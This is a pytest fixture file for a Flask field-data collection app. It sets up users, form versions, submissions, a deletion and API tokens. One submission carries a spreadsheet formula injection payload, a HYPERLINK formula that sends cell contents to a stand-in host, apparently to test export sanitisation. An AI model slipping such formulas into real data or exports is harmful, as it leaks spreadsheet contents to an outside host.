from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from flask import Flask

from fieldapp.auth import services as auth
from fieldapp.auth.models import User
from fieldapp.db import db
from fieldapp.review.deletion import delete_submission
from fieldapp.submissions.services import visible_submission
from tests.exports.test_exports import CHILDREN, body, publish
from tests.openrosa import helpers
from tests.openrosa.helpers import PNG, Collect, device_for, instance_xml


@pytest.fixture(autouse=True)
def _helpers_app(request: pytest.FixtureRequest):
    if "app" not in request.fixturenames:
        yield
        return
    helpers.APP = request.getfixturevalue("app")
    yield
    helpers.APP = None


@pytest.fixture
def world(app: Flask, make_user: Callable[..., User]) -> dict[str, Any]:
    """Form ``expo`` in two versions; submissions in north (3, one deleted, one encrypted-like
    not possible here) and south (1)."""
    publish("1", "|          | text | old_q | Old | Старый |")
    publish("2", "|          | text | new_q | New | Новый |")
    people = {
        "coord1": make_user("coordinator", username="coord1", regions=["north"]),
        "coord2": make_user("coordinator", username="coord2", regions=["south"]),
        "worker1": make_user("field_worker", username="worker1", regions=["north"]),
        "worker2": make_user("field_worker", username="worker2", regions=["south"]),
        "admin": make_user("admin", username="boss", regions=[]),
        "designer": make_user("designer", username="maker", regions=[]),
    }
    north = Collect(app, f"/collect/key/{device_for(people['worker1'])}")
    south = Collect(app, f"/collect/key/{device_for(people['worker2'])}")
    sent = [
        (north, "1", "uuid:n1", body("Amina", children=CHILDREN, extra="<old_q>was</old_q>"), PNG),
        (
            north,
            "2",
            "uuid:n2",
            body('=HYPERLINK("http://x/?"&amp;A1,"Open")', extra="<new_q>is</new_q>"),
            None,
        ),
        (north, "2", "uuid:n3", body("Gone"), None),
        (south, "2", "uuid:s1", body("Dana", needs="school"), None),
    ]
    for phone, version, iid, xml_body, photo in sent:
        xml = instance_xml("expo", version, instance_id=iid, body=xml_body)
        files = [("p.png", photo)] if photo else []
        assert phone.submit(xml, files).status_code == 201
    coord1 = people["coord1"]
    delete_submission(visible_submission("uuid:n3", actor=coord1), actor=coord1, reason="dup")
    db.session.commit()
    tokens = {}
    for name, user in people.items():
        tokens[name] = auth.issue_api_token(user, actor=None)[0]
    db.session.commit()
    return {"people": people, "tokens": tokens}
